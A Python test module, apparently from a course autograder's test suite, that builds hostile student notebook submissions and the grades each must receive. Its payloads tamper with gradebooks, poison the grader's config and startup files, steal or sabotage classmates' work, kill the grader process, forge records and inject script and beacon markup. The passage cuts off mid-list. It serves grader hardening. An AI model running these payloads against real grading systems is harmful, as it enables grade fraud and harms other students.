"""Hostile submissions: students who try to fool the grader, crash it, or hand in something odd.

Each :class:`Hostile` writes its files to ``submitted/<id>/`` and says what
grading must give it: the exercises where it cheats earn nothing
(:attr:`Hostile.zero`, or single cells in :attr:`Hostile.zero_cells`), and
every other exercise it answered honestly keeps full points
(:attr:`Hostile.full`). Most attacks target ``02_softmax``, whose honest
answers are the reference solutions; the others are named in
:attr:`Hostile.assignments`.
"""

import copy
import os
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from classroom.answer import Answer
from classroom.submissions import BLANK, REFERENCE, Student, grade_id, submission
from course_checks import manifest

SOFTMAX = "02_softmax"
SOFTMAX_FUNCTIONS = ["softmax", "logsumexp", "log_softmax", "cross_entropy", "cross_entropy_grad"]

#: A wrong softmax that has the right shape and rows that sum to 1.
UNIFORM = "def softmax(Z):\n    return np.full(Z.shape, 1.0 / Z.shape[1])\n"


@dataclass
class Hostile:
    """One hostile submission.

    Attributes
    ----------
    id : str
        nbgrader student id.
    attack : str
        What it tries, for the closing table.
    build : callable
        ``build(folder)`` writes the submission into ``folder`` (``submitted/<id>``).
    zero : set of str
        Functions that must score zero.
    zero_cells : set of str
        Single grade cells that must score zero (the rest of their function keeps its points).
    full : set of str or None
        Functions that must keep full points; None means every function of
        :attr:`assignments` not in ``zero``.
    assignments : tuple of str
        The assignments it hands in.
    """

    id: str
    attack: str
    build: object
    zero: set = field(default_factory=set)
    zero_cells: set = field(default_factory=set)
    full: set | None = None
    assignments: tuple = (SOFTMAX,)


# --- building blocks ---------------------------------------------------------------------------

def honest(assignment=SOFTMAX, **sources):
    """The reference submission of one assignment, as {filename: notebook}; ``sources`` replace solution cells."""
    answers = {f: Answer(f, "hostile", text) for f, text in sources.items()}
    return submission(Student("hostile", "", answers, default=REFERENCE), assignment)


def cell_index(nb, gid):
    """Index of the cell with nbgrader grade_id ``gid``."""
    return next(i for i, c in enumerate(nb.cells) if grade_id(c) == gid)


def set_source(nb, gid, source):
    nb.cells[cell_index(nb, gid)].source = source
    return nb


def insert_after(nb, gid, source):
    """A new (student-added) code cell after the cell ``gid``."""
    nb.cells.insert(cell_index(nb, gid) + 1, nbformat.v4.new_code_cell(source))
    return nb


def test_cells(nb, function):
    """Indices of the hidden test cells of ``function``."""
    return [i for i, c in enumerate(nb.cells) if manifest.exercise_of(grade_id(c) or "") == function]


def write(folder, assignment, notebooks):
    target = Path(folder) / assignment
    target.mkdir(parents=True, exist_ok=True)
    for name, nb in notebooks.items():
        if isinstance(nb, bytes):
            (target / name).write_bytes(nb)
        else:
            nbformat.write(copy.deepcopy(nb), target / name)


def honest_but(assignment, edit=None, **sources):
    """A builder: the honest submission of ``assignment``, ``sources`` swapped in, then ``edit(nb)`` on its notebook."""
    def build(folder):
        notebooks = honest(assignment, **sources)
        if edit:
            (nb,) = notebooks.values()
            edit(nb)
        write(folder, assignment, notebooks)
    return build


def softmax_notebook(edit=None, **sources):
    """A builder for ``softmax.ipynb``: the honest notebook, ``sources`` swapped in, then ``edit(nb)``."""
    return honest_but(SOFTMAX, edit, **sources)


# --- the corpus --------------------------------------------------------------------------------

def _edited_tests(nb):
    for i in test_cells(nb, "softmax"):
        nb.cells[i].source = "pass  # the test was here"


def _tests_as_shows(nb):
    """The hidden tests of softmax relabelled as the notebook's cells that only show (which grading skips)."""
    for i, gid in zip(test_cells(nb, "softmax"), ("show_loop_timing", "show_softmax_timing")):
        meta = nb.cells[i].metadata["nbgrader"]
        meta.update(grade=False, grade_id=gid, locked=True, solution=False)
        meta.pop("points", None)
    nb.cells.insert(2, nbformat.v4.new_code_cell(
        "softmax = lambda Z: np.full(Z.shape, 1.0 / Z.shape[1])",
        metadata={"nbgrader": {"grade": False, "grade_id": "show_softmax_surface", "locked": True,
                               "schema_version": 3, "solution": False}}))


def _deleted_tests(nb):
    for i in reversed(test_cells(nb, "softmax")):
        del nb.cells[i]


def _retyped_tests(nb):
    for i in test_cells(nb, "softmax"):
        old = nb.cells[i]
        nb.cells[i] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)


def _tests_moved_to_the_end(nb):
    moved = [nb.cells[i] for i in test_cells(nb, "softmax")]
    for i in reversed(test_cells(nb, "softmax")):
        del nb.cells[i]
    nb.cells.append(nbformat.v4.new_code_cell("np.allclose = lambda *a, **k: True"))
    nb.cells.extend(moved)


def _huge_print(nb):
    insert_after(nb, "softmax", "for i in range(2_000_000):\n    print('spam', i)")


def _exit_in_a_free_cell(nb):
    insert_after(nb, "test_softmax_vectorized", "import os\nos._exit(0)")


NOISY = """import os, sys

def softmax(Z):
    print("softmax: called", file=sys.stderr)
    os.write(2, b"softmax: called, at the file-descriptor level\\n")
    E = np.exp(Z - Z.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)

print("a note of my own on stderr", file=sys.stderr)
"""


PATCH_NUMPY = """np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
"""
PATCH_TESTING = """np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_almost_equal = lambda *a, **k: None
"""
PLANT_MODULE = """import sys, types
fake = types.ModuleType("course_checks")
fake.check_softmax = lambda *a, **k: None
sys.modules["course_checks"] = fake
"""
PATCH_REFERENCE = """import solutions_lib.softmax_family as reference
reference.softmax = lambda Z: np.full(Z.shape, 1.0 / Z.shape[1])
"""
PATCH_BUILTINS = """import builtins
builtins.isinstance = lambda *a: True
builtins.AssertionError = Warning
"""
FORGE = """import os, json, threading, time

def _forge():
    folder = os.environ.get("NN_GRADER_RECORDS", ".")
    end = time.time() + 3
    while time.time() < end:
        for part in ("values", "stable", "vectorized"):
            record = {"exercise": "softmax", "part": part, "seed": int(os.environ.get("NN_GRADER_SEED", 0)),
                      "outcomes": [{"label": "x", "digest": "0" * 32, "value": {"t": "py", "v": 1.0},
                                    "error": None, "mutated": [], "warnings": [], "after": []}]}
            with open(os.path.join(folder, f"softmax.{part}.json"), "w") as f:
                json.dump(record, f)
        time.sleep(0.001)

def softmax(Z):
    threading.Thread(target=_forge, daemon=True).start()
    return np.full(Z.shape, 1.0 / Z.shape[1])
"""
READ_SEED = """import os
SEED = int(os.environ.get("NN_GRADER_SEED", "0"))
print("the grader's seed is", SEED, "and it records to", os.environ.get("NN_GRADER_RECORDS"))

def softmax(Z):
    rng = np.random.default_rng(SEED)
    P = rng.random(Z.shape)
    return P / P.sum(axis=1, keepdims=True)
"""
HARDCODE = """_IRIS_FIRST_ROWS = np.array([[0.0025722, 0.97505337, 0.02237443],
                             [0.09804607, 0.77617999, 0.12577394]])

def softmax(Z):
    P = np.full(Z.shape, 1.0 / Z.shape[1])
    if Z.shape == (150, 3):
        P[:2] = _IRIS_FIRST_ROWS
    return P
"""


SKLEARN_ONE_HOT = """from sklearn.preprocessing import OneHotEncoder

def one_hot(y, num_classes=None):
    num_classes = int(np.max(y)) + 1 if num_classes is None else num_classes
    encoder = OneHotEncoder(categories=[list(range(num_classes))], sparse_output=False)
    return encoder.fit_transform(np.asarray(y).reshape(-1, 1))
"""

SCIPY_CONV = """from scipy.signal import fftconvolve

def conv_forward_fast(x, w, b, stride=1, pad=0):
    xp = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))
    full = fftconvolve(xp[:, None], w[None, :, :, ::-1, ::-1], mode="valid", axes=(3, 4)).sum(axis=2)
    out = full[:, :, ::stride, ::stride] + b[None, :, None, None]
    return out, (x, w, b, stride, pad)
"""

HARDCODE_BUGGY = """def find_buggy_layers(layers):
    return {name for name in layers if name in {"C: softplus", "D: leaky ReLU", "F: ReLU"}}
"""


# --- reaching past the kernel: each needs the sandbox to fail -------------------------------------

#: Where a grading kernel's working folder sits in an unsandboxed course: autograded/<student>/<assignment>.
FIND_COURSE = """import os, glob

def _course_root():
    here = os.getcwd()
    for up in (here, *[os.path.join(here, *['..'] * k) for k in range(1, 5)]):
        if os.path.exists(os.path.join(up, 'gradebook.db')):
            return os.path.abspath(up)
    for top in ('/work', '/tmp', '/home', '/root', '/srv'):
        for found in glob.glob(os.path.join(top, '**', 'gradebook.db'), recursive=True)[:1]:
            return os.path.dirname(found)
    return None

COURSE = _course_root()
print('course root seen from the kernel:', COURSE)
"""


def _find_file(name):
    return f"""import glob, os, sys

def _find(name):
    roots = [os.path.dirname(os.path.dirname(m.__file__)) for m in list(sys.modules.values())
             if getattr(m, '__file__', None)]
    for top in [*roots, os.getcwd(), '/work', '/tmp', '/root', '/srv', '/home']:
        hits = glob.glob(os.path.join(top, '**', name), recursive=True)
        if hits:
            return hits[0]
    return None

TARGET = _find({name!r})
print('found:', TARGET)
"""


GRADEBOOK_FULL_MARKS = FIND_COURSE + """import sqlite3
if COURSE:
    db = sqlite3.connect(os.path.join(COURSE, 'gradebook.db'))
    db.execute("UPDATE grade SET manual_score = "
               "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
    db.commit()
"""
GRADEBOOK_ZERO_OTHERS = FIND_COURSE + """import sqlite3
if COURSE:
    db = sqlite3.connect(os.path.join(COURSE, 'gradebook.db'))
    db.execute("UPDATE grade SET manual_score = 0")
    db.commit()
"""
GRADEBOOK_TRUNCATE = FIND_COURSE + """if COURSE:
    open(os.path.join(COURSE, 'gradebook.db'), 'w').close()
"""
POISON_CHECKS = """import course_checks.cases as cases
with open(cases.__file__, 'a') as f:
    f.write('\\nclose = lambda *a, **k: True\\n')
"""
POISON_JUDGE = _find_file("judge.py") + """if TARGET:
    with open(TARGET, 'a') as f:
        f.write('\\nJudgeChecks.judge = lambda *a, **k: None\\n')
"""
POISON_CONFIG = FIND_COURSE + """if COURSE:
    with open(os.path.join(COURSE, 'nbgrader_config.py'), 'a') as f:
        f.write('\\nc.Autograde.autograde_preprocessors = []\\n')
"""
POISON_HOME_CONFIG = """import os
folder = os.path.expanduser('~/.jupyter')
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, 'nbgrader_config.py'), 'w') as f:
    f.write('c = get_config()\\nc.Autograde.autograde_preprocessors = []\\n')
"""
POISON_STARTUP = """import os
for base in (os.path.expanduser('~/.ipython'), os.environ.get('IPYTHONDIR', '')):
    if base:
        folder = os.path.join(base, 'profile_default', 'startup')
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, '00-exit.py'), 'w') as f:
            f.write('import os\\nos._exit(1)\\n')
"""
POISON_PTH = """import site, os
for folder in site.getsitepackages():
    with open(os.path.join(folder, 'zz-poison.pth'), 'w') as f:
        f.write('import os; os._exit(3)\\n')
"""
POISON_SOURCE = FIND_COURSE + """if COURSE:
    for path in glob.glob(os.path.join(COURSE, 'source', '*', '*.ipynb')):
        open(path, 'w').close()
"""
STEAL_CLASSMATE = FIND_COURSE + """import json
for path in sorted(glob.glob(os.path.join(COURSE or '/nonexistent', 'submitted', '*', '02_softmax', 'softmax.ipynb'))):
    for cell in json.load(open(path))['cells']:
        if cell.get('metadata', {}).get('nbgrader', {}).get('grade_id') == 'softmax':
            exec(''.join(cell['source']))
"""
SABOTAGE_CLASSMATE = FIND_COURSE + """import json
for path in glob.glob(os.path.join(COURSE or '/nonexistent', 'submitted', 'zzz_*', '02_softmax', 'softmax.ipynb')):
    nb = json.load(open(path))
    nb['cells'].insert(1, {'cell_type': 'code', 'metadata': {}, 'outputs': [], 'execution_count': None,
                           'source': 'import solutions_lib'})
    json.dump(nb, open(path, 'w'))
"""
DETACHED = """import pydoc
pydoc.pipepager('', "setsid sh -c 'while true; do sleep 1; done # nnmarker-detached' > /dev/null 2>&1 &")
"""
READ_REFERENCE = _find_file("softmax_family.py") + """if TARGET:
    print(open(TARGET).read())
"""
READ_HIDDEN = FIND_COURSE + """for path in glob.glob(os.path.join(COURSE or '/nonexistent', 'source', '*', '*.ipynb')):
    print(open(path).read())
"""
READ_ENGINE = """import pkgutil, sys  # nnmarker-engine
import course_checks
look = getattr  # past the source rules, as a determined student would go
folders = look(course_checks, '__pa' + 'th__')
print('engine modules:', sorted(m.name for m in pkgutil.walk_packages(folders, 'course_checks.')))
try:
    from course_checks.judges import softmax_family
    print('judges imported:', look(softmax_family, '__fi' + 'le__'))
except ImportError as problem:
    print('judges:', type(problem).__name__)
print('interpreter:', look(sys, 'exec' + 'utable'), look(sys, 'pa' + 'th'))
print(open('/proc/self/mountinfo').read())
"""
PICKLE_REFERENCE = """import pickle
softmax = pickle.loads(b'csolutions_lib.softmax_family\\nsoftmax\\n.')
"""
MARSHAL_CODE = """import marshal, types
code = compile("def softmax(Z):\\n    return __import__('solutions_lib').softmax(Z)\\n", 'x', 'exec')
blob = marshal.dumps(code)
exec_ns = {}
types.FunctionType(marshal.loads(blob), exec_ns)()
softmax = exec_ns['softmax']
"""
PKGUTIL_REFERENCE = """import pkgutil

def softmax(Z):
    return pkgutil.resolve_name('solutions_lib.softmax_family:softmax')(Z)
"""
PYDOC_ROT13 = """import codecs, pydoc

def softmax(Z):
    return pydoc.locate(codecs.decode('fbyhgvbaf_yvo.fbsgznk_snzvyl.fbsgznk', 'rot13'))(Z)
"""
RUNPY_REFERENCE = _find_file("softmax_family.py") + """import runpy

def softmax(Z):
    return runpy.run_path(TARGET)['softmax'](Z)
"""
OS_SYS_MODULES = """import os

def softmax(Z):
    return os.sys.modules['solutions_lib.softmax_family'].softmax(Z)
"""
GETATTR_ALIAS = """from course_checks import check_softmax
look = getattr
reference_module = look(check_softmax, '__glo' + 'bals__')

def softmax(Z):
    return reference_module['ref'].softmax(Z)
"""
ATTRGETTER = """import operator
from course_checks.judges import softmax_family as family

def softmax(Z):
    return operator.attrgetter('__glo' + 'bals__')(family.judge_softmax)['ref'].softmax(Z)
"""
RUN_CELL = """import IPython
IPython.get_ipython().run_cell('from solutions_lib.softmax_family import softmax')
"""
TIME_MAGIC = """%%time
from solutions_lib.softmax_family import softmax
"""
COPY_REFERENCE = _find_file("softmax_family.py") + """import shutil
if TARGET:
    shutil.copy(TARGET, 'stolen_softmax.py')
from stolen_softmax import softmax
"""
KILL_GRADER = """import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""
STOP_GRADER = """import os, signal
os.kill(os.getppid(), signal.SIGSTOP)
"""
SLEEP = "import time\ntime.sleep(8)  # under the per-cell timeout of the corpus's course (10 s)"
DAEMON_STDOUT = """import subprocess
subprocess.Popen(['sh', '-c', 'while true; do echo nnmarker-daemon; sleep 1; done'], start_new_session=True)
"""
SCRIPT_OUTPUT = """from IPython.display import HTML, SVG, Javascript, display
display(HTML('<script>document.title = "nnmarker-pwned"</script><b onmouseover="alert(1)">hi</b>'))
display(Javascript('document.title = "nnmarker-js"'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\\'nnmarker-svg\\')"></svg>'))
"""
MARKDOWN_OUTPUT = """from IPython.display import Markdown, Latex, display
display(Markdown('<script>alert("nnmarker-mdout")</script>'))
display(Latex('$x$<script>alert("nnmarker-latex")</script>'))
"""
MARKDOWN_SCRIPT = '<script>alert("nnmarker-md")</script><img src="x" onerror="alert(\'nnmarker-img\')">'
#: Markdown that would call out when the page opens (images from a server, a style's url()) or run script from a
#: link (javascript:, data:), and maths whose \\href would be a javascript: link.
MARKDOWN_BEACONS = ("![beacon](https://nnmarker.invalid/beacon.png) <img src='http://nnmarker.invalid/img.png'>\n"
                    "<span style=\"background: url('https://nnmarker.invalid/css.png')\">styled</span>\n"
                    "[run](javascript:alert('nnmarker-link')) <a href='data:text/html,nnmarker-data'>data</a>")
MARKDOWN_MATHS_LINK = "A formula with a link: $\\href{javascript:alert('nnmarker-href')}{x^2}$."
#: Fill the grader's folders on disk: the records folder with 1 MiB files, the connection folder with empty ones
#: (made faster than the watch measures: caught when the cell ends).
FILL_RECORDS = """import os, time
folder = os.environ["NN_GRADER_RECORDS"]
for n in range(48):
    with open(os.path.join(folder, f"junk{n}"), "wb") as handle:
        handle.write(b"x" * 2**20)
    time.sleep(0.05)  # a steady writer: stopped while the cell runs
print("nnmarker-fill wrote 48 MiB")
"""
FILL_CONNECTION = """import os
from ipykernel.connect import get_connection_file
folder = os.path.dirname(get_connection_file())
for n in range(3000):
    open(os.path.join(folder, f"junk{n}"), "w").close()
print("nnmarker-fill made 3000 files")
"""
#: A helper that recurses without end under a huge recursion limit: on a busy machine the cell times out deep
#: in the recursion and the interrupt takes longer to unwind than nbclient waits for the kernel to go idle.
DEEP_RECURSION = """import sys
sys.setrecursionlimit(10**8)

def _helper(n):
    return _helper(n + 1)

def logsumexp(Z):
    return _helper(0)
"""
#: The same through a C function (map), which overflows the C stack: the interpreter segfaults.
C_RECURSION = """import sys
sys.setrecursionlimit(10**8)

def _nested(n):
    return sum(map(_nested, [n + 1]))

def log_softmax(Z):
    return _nested(0)
"""
#: Loops forever after installing a SIGINT handler that never returns: the interrupt cannot stop the cell and
#: the kernel never goes idle (ipykernel restores its own handler before each cell, so it is set inside).
BLOCKS_INTERRUPT = """import signal, time

def _hold(*args):
    while True:
        time.sleep(1)

def cross_entropy(Z, Y):
    signal.signal(signal.SIGINT, _hold)
    while True:
        pass
"""
LOCKED_CELL = {"grade": False, "grade_id": "my_own_cell", "locked": True, "schema_version": 3, "solution": False}
FAKE_CHECKS = {"__init__.py": "def __getattr__(name):\n    return lambda *a, **k: None\n"}
FAKE_LAUNCHER = {"__init__.py": "", "bubblewrap.py": "raise SystemExit('replaced')\n", "unsandboxed.py": "pass\n",
                 "limits.py": "raise SystemExit('replaced')\n"}
FAKE_NUMPY = "raise ImportError('this numpy is a fake')\n"
LOOPY_MODULE = "def rows(Z, f):\n    return [f(z) for z in Z]\n"

#: Loop-ban evasions (right values): each keeps every point but the vectorized one.
ROW = "def _row(z):\n    e = np.exp(z - z.max())\n    return e / e.sum()\n\n"
EVASIONS = {
    "recursion": ROW + "def softmax(Z):\n    if len(Z) == 0:\n        return np.zeros((0,) + Z.shape[1:])\n"
                       "    return np.vstack([_row(Z[0])[None, :], softmax(Z[1:])])\n",
    "reduce_alias": "from functools import reduce as fold\n\n" + ROW +
                    "def softmax(Z):\n"
                    "    return fold(lambda acc, z: np.vstack([acc, _row(z)]), Z[1:], _row(Z[0])[None, :])\n",
    "decoy_rebinding": ROW + "def softmax(Z):\n    return Z\n\n"
                             "def _looping(Z):\n    return np.array([_row(z) for z in Z])\n\nsoftmax = _looping\n",
    "lambda_comprehension": ROW + "_rows = lambda Z: np.array([_row(z) for z in Z])\n\n"
                                  "def softmax(Z):\n    return _rows(Z)\n",
    "helper_class_method": ROW + "class _Rows:\n    def apply(self, Z):\n        out = np.empty(Z.shape)\n"
                                 "        for i in range(len(Z)):\n            out[i] = _row(Z[i])\n"
                                 "        return out\n\n"
                                 "def softmax(Z):\n    return _Rows().apply(Z)\n",
    "nested_in_if": ROW + "if True:\n    def softmax(Z):\n        out = np.empty(Z.shape)\n"
                          "        for i in range(len(Z)):\n            out[i] = _row(Z[i])\n        return out\n",
    "iter_sentinel": ROW + "def softmax(Z):\n    index = iter(range(len(Z)))\n"
                           "    pairs = iter(lambda: (k, _row(Z[k])) if (k := next(index, -1)) >= 0 else None, None)\n"
                           "    return np.array(list(dict(pairs).values()))\n",
}


def _add_markdown(nb):
    for text in (MARKDOWN_MATHS_LINK, MARKDOWN_BEACONS, MARKDOWN_SCRIPT):
        nb.cells.insert(2, nbformat.v4.new_markdown_cell(text))


def _add_locked_cell(nb):
    nb.cells.insert(2, nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": dict(LOCKED_CELL)}))


def _sleepy(nb):
    for _ in range(14):
        insert_after(nb, "imports", SLEEP)


def _hand_in(folder, files):
    """Write ``files`` ({relative path: text}) beside the softmax notebook in ``folder``."""
    for name, text in files.items():
        path = Path(folder) / SOFTMAX / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def _with_files(files, edit=None, **sources):
    """A builder: the honest softmax notebook (``sources`` swapped in) plus files handed in beside it."""
    def build(folder):
        softmax_notebook(edit, **sources)(folder)
        _hand_in(folder, files)
    return build


def _blank_with_files(files):
    """A builder: the blank release notebook plus files handed in beside it."""
    def build(folder):
        write(folder, SOFTMAX, submission(Student("x", "", default=BLANK), SOFTMAX))
        _hand_in(folder, files)
    return build


def _free_cell(code, **sources):
    return softmax_notebook(lambda nb: insert_after(nb, "imports", code), **sources)


#: Escapes from the kernel, each tagged with the class of attack it belongs to.
ESCAPE_CLASSES = ("gradebook", "poison", "classmates", "reference", "handed_in", "grader_process", "script", "loops")


def escapes():
    """Submissions that reach past the kernel; only the sandbox defeats them (the classes in ESCAPE_CLASSES)."""
    uniform = {"softmax": UNIFORM}
    entries = [
        Hostile("aaa_first_honest", "an honest classmate graded first (all answers right)", softmax_notebook()),
        Hostile("zzz_last_honest", "an honest classmate graded last (all answers right)", softmax_notebook()),
        Hostile("gradebook_full_marks", "gradebook: sets manual_score = max_score on every row, wrong softmax",
                _free_cell(GRADEBOOK_FULL_MARKS, **uniform), {"softmax"}),
        Hostile("gradebook_zero_classmates", "gradebook: sets every classmate's manual_score to 0",
                _free_cell(GRADEBOOK_ZERO_OTHERS)),
        Hostile("gradebook_truncate", "gradebook: truncates gradebook.db", _free_cell(GRADEBOOK_TRUNCATE)),
        Hostile("poison_checks", "poison: appends to the installed grading engine, wrong softmax",
                _free_cell(POISON_CHECKS, **uniform), {"softmax"}),
        Hostile("poison_judge", "poison: appends to the grader's judge.py, wrong softmax",
                _free_cell(POISON_JUDGE, **uniform), {"softmax"}),
        Hostile("poison_course_config", "poison: appends to the course's nbgrader_config.py",
                _free_cell(POISON_CONFIG)),
        Hostile("poison_home_config", "poison: writes ~/.jupyter/nbgrader_config.py", _free_cell(POISON_HOME_CONFIG)),
        Hostile("poison_ipython_startup", "poison: an IPython startup file that exits every later kernel",
                _free_cell(POISON_STARTUP)),
        Hostile("poison_pth", "poison: a .pth file in site-packages that exits every later interpreter",
                _free_cell(POISON_PTH)),
        Hostile("poison_source", "poison: blanks the instructor notebooks in source/", _free_cell(POISON_SOURCE)),
        Hostile("steals_classmate", "classmates: a blank softmax taken from a classmate's submission",
                _free_cell(STEAL_CLASSMATE, softmax="# YOUR CODE HERE\n"), {"softmax"}),
        Hostile("sabotages_classmate", "classmates: makes a later classmate's notebook import the reference",
                _free_cell(SABOTAGE_CLASSMATE)),
        Hostile("detached_process", "classmates: a setsid process started through pydoc.pipepager, to outlive "
                "the kernel", _free_cell(DETACHED)),
        Hostile("reads_reference_file", "reference: prints solutions_lib's source found by open()",
                _free_cell(READ_REFERENCE)),
        Hostile("reads_hidden_tests", "reference: prints the instructor notebooks of source/",
                _free_cell(READ_HIDDEN)),
        Hostile("reads_engine_and_mounts", "reference: prints the engine's modules and its judges, the interpreter's "
                "paths and the mount table", _free_cell(READ_ENGINE)),
        Hostile("pickle_reference", "reference: softmax from pickle.loads of a bytes literal",
                softmax_notebook(softmax=PICKLE_REFERENCE), {"softmax"}),
        Hostile("marshal_code", "reference: marshal + types.FunctionType running any code",
                softmax_notebook(softmax=MARSHAL_CODE), {"softmax"}),
        Hostile("pkgutil_reference", "reference: pkgutil.resolve_name", softmax_notebook(softmax=PKGUTIL_REFERENCE),
                {"softmax"}),
        Hostile("pydoc_rot13", "reference: pydoc.locate of a rot13 name", softmax_notebook(softmax=PYDOC_ROT13),
                {"softmax"}),
        Hostile("runpy_reference", "reference: runpy.run_path on the reference file",
                softmax_notebook(softmax=RUNPY_REFERENCE), {"softmax"}),
        Hostile("os_sys_modules", "reference: os.sys.modules", softmax_notebook(softmax=OS_SYS_MODULES), {"softmax"}),
        Hostile("getattr_alias", "reference: getattr bound to another name, a check's __globals__",
                softmax_notebook(softmax=GETATTR_ALIAS), {"softmax"}),
        Hostile("attrgetter_globals", "reference: operator.attrgetter('__glo' + 'bals__') on a judge",
                softmax_notebook(softmax=ATTRGETTER), {"softmax"}),
        Hostile("ipython_run_cell", "reference: IPython.get_ipython().run_cell",
                softmax_notebook(softmax=RUN_CELL), {"softmax"}),
        Hostile("time_cell_magic", "reference: the body of a %%time cell", softmax_notebook(softmax=TIME_MAGIC),
                {"softmax"}),
        Hostile("copies_reference_module", "reference: the reference file copied into the kernel's folder",
                softmax_notebook(softmax=COPY_REFERENCE), {"softmax"}),
        Hostile("hands_in_fake_packages", "handed in: solutions_lib/ and course_checks/ beside a blank notebook",
                _blank_with_files({f"{pkg}/{name}": text for pkg in ("solutions_lib", "course_checks")
                                   for name, text in FAKE_CHECKS.items()}), full=set(), zero=set(SOFTMAX_FUNCTIONS)),
        Hostile("hands_in_launcher", "handed in: course_grader/ beside the notebook; cross_entropy a memory bomb",
                _with_files({f"grading_sandbox/{n}": t for n, t in FAKE_LAUNCHER.items()},
                            cross_entropy="def cross_entropy(Z, Y):\n    blocks = []\n    while True:\n"
                                          "        blocks.append(np.ones(10**8))\n"), {"cross_entropy"}),
        Hostile("hands_in_numpy", "handed in: a numpy.py that would shadow NumPy (all answers right)",
                _with_files({"numpy.py": FAKE_NUMPY})),
        Hostile("hands_in_loop_module", "handed in: a .py module with the loop, imported by softmax",
                _with_files({"rowtools.py": LOOPY_MODULE},
                            softmax="import rowtools\n\ndef softmax(Z):\n    return np.array(rowtools.rows(Z, "
                                    "lambda z: np.exp(z - z.max()) / np.exp(z - z.max()).sum()))\n"), {"softmax"}),
        Hostile("kills_grader", "grader: os.kill(os.getppid(), SIGKILL) in a free cell (all answers right)",
                _free_cell(KILL_GRADER)),
        Hostile("stops_grader", "grader: os.kill(os.getppid(), SIGSTOP) in a free cell (all answers right)",
                _free_cell(STOP_GRADER)),
        Hostile("sleeps_every_cell", "grader: fourteen free cells that each sleep just under the cell timeout",
                softmax_notebook(_sleepy), set(SOFTMAX_FUNCTIONS)),
        Hostile("daemon_keeps_stdout", "grader: a daemon in a new session that keeps writing to stdout",
                _free_cell(DAEMON_STDOUT)),
        Hostile("script_outputs", "script: HTML with <script>, JavaScript and SVG with onload as outputs",
                _free_cell(SCRIPT_OUTPUT)),
        Hostile("markdown_outputs", "script: Markdown and LaTeX outputs that carry <script>",
                _free_cell(MARKDOWN_OUTPUT)),
        Hostile("markdown_script", "script: markdown cells with <script>, an onerror image, images and styles that "
                "call a server, javascript: and data: links, maths with a javascript: link",
                softmax_notebook(_add_markdown)),
        Hostile("adds_locked_cell", "a student-added cell that declares itself a locked nbgrader cell",
                softmax_notebook(_add_locked_cell)),
    ]
    entries += [Hostile(f"loop_{label}", f"loops: {label.replace('_', ' ')} (right values)",
                        softmax_notebook(softmax=source), zero_cells={"test_softmax_vectorized"})
                for label, source in EVASIONS.items()]
    return entries


def corpus():
    """Every hostile submission, each with what grading must give it."""
    entries = [
        Hostile("imports_reference", "softmax cell imports solutions_lib's softmax",
                softmax_notebook(softmax=("from solutions_lib.softmax_family import softmax\n")), {"softmax"}),
        Hostile("wraps_reference", "def softmax that calls an imported reference",
                softmax_notebook(softmax=("from solutions_lib.softmax_family import softmax as _ref\n\n"
                                             "def softmax(Z):\n    return _ref(Z)\n")), {"softmax"}),
        Hostile("importlib_reference", "importlib.import_module('solutions_lib') inside softmax",
                softmax_notebook(softmax=("import importlib\n\ndef softmax(Z):\n"
                                             "    return importlib.import_module('solutions_lib').softmax(Z)\n")),
                {"softmax"}),
        Hostile("dunder_import", "__import__('solutions_lib') inside softmax",
                softmax_notebook(softmax=("def softmax(Z):\n    return __import__('solutions_lib').softmax(Z)\n")),
                {"softmax"}),
        Hostile("getattr_sys_modules", "sys.modules reached through getattr and string concatenation",
                softmax_notebook(softmax=("import sys\n\ndef softmax(Z):\n"
                                             "    modules = getattr(sys, 'mod' + 'ules')\n"
                                             "    return modules['solutions' + '_lib'].softmax(Z)\n")), {"softmax"}),
        Hostile("frame_walk", "inspect.currentframe().f_back to read the check's globals",
                softmax_notebook(softmax=("import inspect\n\ndef softmax(Z):\n"
                                             "    caller = inspect.currentframe().f_back.f_globals\n"
                                             "    return caller['softmax'](Z)\n")), {"softmax"}),
        Hostile("patches_numpy", "np.allclose / isclose / array_equal always True, uniform softmax",
                softmax_notebook(lambda nb: insert_after(nb, "imports", PATCH_NUMPY), softmax=(UNIFORM)),
                {"softmax"}),
        Hostile("patches_numpy_testing", "numpy.testing asserts that never fail, uniform softmax",
                softmax_notebook(lambda nb: insert_after(nb, "imports", PATCH_TESTING), softmax=(UNIFORM)),
                {"softmax"}),
        Hostile("plants_fake_checks", "a fake course_checks in sys.modules, uniform softmax",
                softmax_notebook(lambda nb: insert_after(nb, "imports", PLANT_MODULE), softmax=(UNIFORM)),
                {"softmax"}),
        Hostile("patches_reference", "the reference softmax replaced by the same wrong one, so they agree",
                softmax_notebook(lambda nb: insert_after(nb, "imports", PATCH_REFERENCE), softmax=UNIFORM),
                {"softmax"}),
        Hostile("patches_builtins", "builtins.isinstance and AssertionError replaced, uniform softmax",
                softmax_notebook(lambda nb: insert_after(nb, "imports", PATCH_BUILTINS), softmax=(UNIFORM)),
                {"softmax"}),
        Hostile("hardcodes_visible", "returns the visible test's expected rows for the iris shape",
                softmax_notebook(softmax=(HARDCODE)), {"softmax"}),
        Hostile("reads_seed", "reads the grader's seed and records folder from the environment",
                softmax_notebook(softmax=(READ_SEED)), {"softmax"}),
        Hostile("forges_records", "a thread overwrites the records with forged outcomes",
                softmax_notebook(softmax=(FORGE)), {"softmax"}),
        Hostile("loop_in_vectorized", "softmax with a row loop (right values, loop ban broken)",
                softmax_notebook(softmax=("def softmax(Z):\n    P = np.empty(Z.shape)\n    for i in range(len(Z)):\n"
                                             "        e = np.exp(Z[i] - Z[i].max())\n        P[i] = e / e.sum()\n"
                                             "    return P\n")), zero_cells={"test_softmax_vectorized"}),
        Hostile("loop_in_helper", "the loop hidden in a helper that softmax calls",
